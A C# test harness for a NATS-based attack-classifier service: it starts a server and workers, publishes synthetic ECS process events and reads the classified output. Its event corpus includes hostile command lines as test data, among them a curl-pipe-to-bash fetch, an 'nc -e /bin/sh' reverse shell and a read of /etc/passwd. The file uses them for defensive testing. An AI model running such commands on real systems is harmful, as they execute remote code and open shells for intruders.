using System.Diagnostics;
using System.Globalization;
using System.Text;
using NATS.Client.Core;
using NATS.Client.JetStream;
using NATS.Client.JetStream.Models;

namespace AttackClassifier.StreamingTests;

/// <summary>
/// One test's world: a fresh server, a client connection, the names of a worker group, a producer of ECS events and a
/// reader of everything the output stream holds.
/// </summary>
internal sealed class StreamRig : IAsyncDisposable
{
    internal const string Stream = "EVENTS";
    internal const string InputSubject = "events.in";
    internal const string OutputSubject = "events.classified";
    internal const string OutputStream = Stream + "_RESULTS";
    internal const string Consumer = "classifiers";

    private readonly List<WorkerProcess> _workers = [];

    private StreamRig(NatsServerProcess server, NatsConnection connection)
    {
        Server = server;
        Connection = connection;
        Js = new NatsJSContext(connection);
    }

    internal NatsServerProcess Server { get; }

    internal NatsConnection Connection { get; }

    internal NatsJSContext Js { get; }

    internal static async Task<StreamRig> StartAsync()
    {
        var server = new NatsServerProcess();
        var connection = new NatsConnection(new NatsOpts
        {
            Url = server.Url,
            MaxReconnectRetry = -1,
            ReconnectWaitMin = TimeSpan.FromMilliseconds(50),
            ReconnectWaitMax = TimeSpan.FromMilliseconds(500),
        });
        await connection.ConnectAsync();
        return new StreamRig(server, connection);
    }

    /// <summary>Starts <c>serve</c> for this group (ECS in, ECS out, short ack wait so a killed worker's batch comes back soon).</summary>
    internal WorkerProcess StartWorker(int batch = 256, int maxAckPending = 4096)
    {
        var worker = new WorkerProcess([
            "--nats", Server.Url, "--stream", Stream, "--input-subject", InputSubject, "--output-subject", OutputSubject,
            "--consumer", Consumer, "--input-format", "ecs", "--format", "ecs", "--emit", "prediction", "--keep", "event.id",
            "--batch", batch.ToString(CultureInfo.InvariantCulture), "--max-ack-pending", maxAckPending.ToString(CultureInfo.InvariantCulture),
            "--ack-wait", "3", "--stats-interval", "1",
        ]);
        _workers.Add(worker);
        return worker;
    }

    /// <summary>The i-th ECS event of the corpus: a real-shaped process event with a unique event.id.</summary>
    internal static byte[] EcsEvent(int i)
    {
        string[] commands =
        [
            "uname -a", "cat /etc/passwd", "whoami", "curl -s http://10.0.0.5/x.sh | bash", "crontab -l",
            "powershell -enc SQBFAFgA", "ls -la /tmp", "nc -e /bin/sh 10.1.1.1 4444", "id", "ps aux",
        ];
        string command = commands[i % commands.Length] + " " + (i % 13).ToString(CultureInfo.InvariantCulture);
        return Encoding.UTF8.GetBytes(string.Create(CultureInfo.InvariantCulture,
            $$$"""{"@timestamp":"2026-01-01T00:00:00Z","event":{"id":"ev-{{{i}}}","kind":"event","category":["process"]},"host":{"name":"host-{{{i % 17}}}"},"process":{"pid":{{{1000 + i}}},"command_line":"{{{command}}}"}}"""));
    }

    /// <summary>A message no reader can use: JSON cut short, with a byte that is not UTF-8.</summary>
    internal static readonly byte[] Poison = [.. "{\"event\":{\"id\":\"poison\"},\"process\":{\"command_line\":\""u8, 0xC3, 0x28];

    /// <summary>Creates the stream (as a worker would), then publishes events [from, to) with up to 512 publishes in
    /// flight, and <paramref name="poisonAt"/>'s body replaced by bytes no reader can decode.</summary>
    internal async Task PublishEventsAsync(int from, int to, int poisonAt = -1)
    {
        await EnsureInputStreamAsync();
        var inFlight = new List<Task<PubAckResponse>>(512);
        for (int i = from; i < to; i++)
        {
            byte[] body = i == poisonAt ? Poison : EcsEvent(i);
            inFlight.Add(Js.PublishAsync(InputSubject, body).AsTask());
            if (inFlight.Count == 512)
            {
                foreach (var t in inFlight) (await t).EnsureSuccess();
                inFlight.Clear();
            }
        }
        foreach (var t in inFlight) (await t).EnsureSuccess();
    }

    internal async Task EnsureInputStreamAsync()
    {
        try
        {
            await Js.GetStreamAsync(Stream);
        }
        catch (NatsJSApiException e) when (e.Error.Code == 404)
        {
            await Js.CreateStreamAsync(new StreamConfig(Stream, [InputSubject])
            {
                Retention = StreamConfigRetention.Workqueue,
                Storage = StreamConfigStorage.File,
            });
        }
    }

    /// <summary>How many messages the output stream holds (0 before a worker created it).</summary>
    internal async Task<long> OutputCountAsync()
    {
        try
        {
            INatsJSStream s = await Js.GetStreamAsync(OutputStream);
            return s.Info.State.Messages;
        }
        catch (NatsJSApiException e) when (e.Error.Code == 404)
        {
            return 0;
        }
    }

    /// <summary>Waits until the output stream holds <paramref name="count"/> messages; fails after <paramref name="timeout"/>.</summary>
    internal async Task WaitForOutputsAsync(long count, TimeSpan timeout)
    {
        var clock = Stopwatch.StartNew();
        long seen = 0;
        while (clock.Elapsed < timeout)
        {
            try
            {
                seen = await OutputCountAsync();
            }
            catch (Exception e) when (e is NatsException or TimeoutException)
            {
                // the server is being restarted
            }
            if (seen >= count) return;
            await Task.Delay(100);
        }
        throw new TimeoutException($"{seen} of {count} outputs after {timeout}. Workers:\n{string.Join("\n---\n", _workers.Select(w => w.Stderr))}");
    }

    /// <summary>Every message of the output stream: its Nats-Msg-Id, headers and body.</summary>
    internal async Task<List<(string Id, NatsHeaders Headers, string Body)>> ReadOutputsAsync()
    {
        long total = await OutputCountAsync();
        var result = new List<(string, NatsHeaders, string)>((int)total);
        INatsJSConsumer reader = await Js.CreateOrderedConsumerAsync(OutputStream);
        using var cts = new CancellationTokenSource(TimeSpan.FromSeconds(60));
        while (result.Count < total)
        {
            await foreach (NatsJSMsg<byte[]> msg in reader.FetchAsync<byte[]>(new NatsJSFetchOpts { MaxMsgs = 1000, Expires = TimeSpan.FromSeconds(2) }, cancellationToken: cts.Token))
            {
                NatsHeaders headers = msg.Headers ?? throw new InvalidOperationException("An output without headers.");
                headers.TryGetLastValue("Nats-Msg-Id", out string? id);
                result.Add((id ?? "", headers, Encoding.UTF8.GetString(msg.Data ?? [])));
            }
        }
        return result;
    }

    /// <summary>The durable consumer's state: (messages not yet delivered, delivered and not acknowledged).</summary>
    internal async Task<(ulong Pending, long AckPending)> ConsumerStateAsync()
    {
        INatsJSConsumer consumer = await Js.GetConsumerAsync(Stream, Consumer);
        return (consumer.Info.NumPending, consumer.Info.NumAckPending);
    }

    public async ValueTask DisposeAsync()
    {
        foreach (WorkerProcess w in _workers) w.Dispose();
        await Connection.DisposeAsync();
        Server.Dispose();
    }
}
